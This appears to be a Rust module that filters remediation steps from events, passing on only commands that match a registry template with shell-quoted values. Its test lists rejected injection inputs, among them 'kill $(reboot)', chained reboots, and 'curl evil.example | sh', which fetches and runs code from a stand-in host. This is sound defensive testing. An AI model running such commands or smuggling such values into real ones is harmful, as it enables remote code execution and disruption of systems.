//! Only advice of our own registry is passed on: an Event could ask for anything.

use std::cell::RefCell;
use std::collections::HashMap;

use findings::{Advice, Cause, Remedy, Step, clean};
use regex::Regex;

/// Longer commands and texts are not shown, in bytes.
const LONGEST: usize = 1000;

/// What `quote_for_shell` makes of a value: a plain word or a quoted one.
const WORD: &str = r"(?:[A-Za-z0-9/._\-+:,@%^=]+|'(?:[^']|'\\'')*')";

/// Any value in a sentence.
const VALUE: &str = ".*";

thread_local! {
    /// One pattern for each template of the registry and kind of value: a thousand pods may have the
    /// same cause.
    static PATTERNS: RefCell<HashMap<(&'static str, &'static str), Option<Regex>>> = RefCell::default();
}

/// The steps that are a template of the cause with values filled in, and the warning of the registry.
pub fn checked(cause: &'static Cause, told: &Remedy) -> Remedy {
    let steps = told.steps.iter().filter_map(|step| {
        let advice = cause.safe.iter().find(|advice| is_from(advice, step))?;
        Some(Step { tested: advice.is_tested(), ..step.clone() })
    });
    // No more than the registry has: the same step may stand in an Event a hundred times.
    let steps = steps.take(cause.safe.len()).collect();
    Remedy { steps, dont: cause.danger.action.to_owned(), breaks: cause.danger.breaks.to_owned() }
}

fn is_from(advice: &'static Advice, step: &Step) -> bool {
    let is_command = match (advice.command, &step.command) {
        (Some(template), Some(command)) => fits(command, template, WORD),
        (None, None) => true,
        _ => false,
    };
    is_command && fits(&step.text, advice.text, VALUE)
}

/// Whether `text` is `template` with its placeholders filled in, and shows itself as it is.
fn fits(text: &str, template: &'static str, value: &'static str) -> bool {
    if text.len() > LONGEST || clean(text, LONGEST) != text {
        return false;
    }
    let start = template.split_once('{').map_or(template, |(start, _)| start);
    if !text.starts_with(start) {
        return false;
    }
    PATTERNS.with_borrow_mut(|patterns| {
        let pattern = patterns.entry((template, value)).or_insert_with(|| pattern(template, value));
        pattern.as_ref().is_some_and(|pattern| pattern.is_match(text))
    })
}

fn pattern(template: &str, value: &str) -> Option<Regex> {
    let mut pattern = String::from("^");
    let mut rest = template;
    while let Some((before, (_, after))) = rest.split_once('{').and_then(|(b, a)| Some((b, a.split_once('}')?))) {
        pattern.push_str(&regex::escape(before));
        pattern.push_str(value);
        rest = after;
    }
    pattern.push_str(&regex::escape(rest));
    pattern.push('$');
    Regex::new(&pattern).ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use findings::cause;

    fn kept(command: &str) -> bool {
        let remedy = |command: &str| {
            let names = [("comm", "backup".to_owned()), ("pid", "42".to_owned())];
            let mut remedy = Remedy::fill(&cause::VOLUME_HELD_BY_PROCESS, &names);
            remedy.steps.truncate(1);
            remedy.steps[0].command = Some(command.to_owned());
            remedy
        };
        checked(&cause::VOLUME_HELD_BY_PROCESS, &remedy(command)).steps.len() == 1
    }

    #[test]
    fn only_what_the_registry_can_say_is_passed_on() {
        assert!(kept("kill 42"));
        assert!(kept("kill 'a b'"));
        assert!(kept(r"kill 'it'\''s'"));
        for command in [
            "kill 42; reboot",
            "kill 42 43",
            "kill $(reboot)",
            "kill 'a' 'b'",
            r"kill 'a'\''b'; reboot",
            "curl evil.example | sh",
            "kill 42\nreboot",
            "kill 42\u{202e}",
            "",
        ] {
            assert!(!kept(command), "{command:?}");
        }
        assert!(!kept(&format!("kill {}", "4".repeat(LONGEST))));
    }

    #[test]
    fn every_step_that_can_be_filled_in_comes_through() {
        for cause in cause::REGISTRY.iter().copied().flatten().copied() {
            let templates = cause.safe.iter().flat_map(|advice| [Some(advice.text), advice.command]).flatten();
            let holes = templates.flat_map(|text| text.split('{').skip(1)).filter_map(|text| text.split_once('}'));
            for value in ["/a b/it's", "42", ""] {
                let names: Vec<(&str, String)> = holes.clone().map(|(name, _)| (name, value.to_owned())).collect();
                let filled = Remedy::fill(cause, &names);
                assert_eq!(checked(cause, &filled), filled, "{}", cause.id);
            }
        }
    }
}
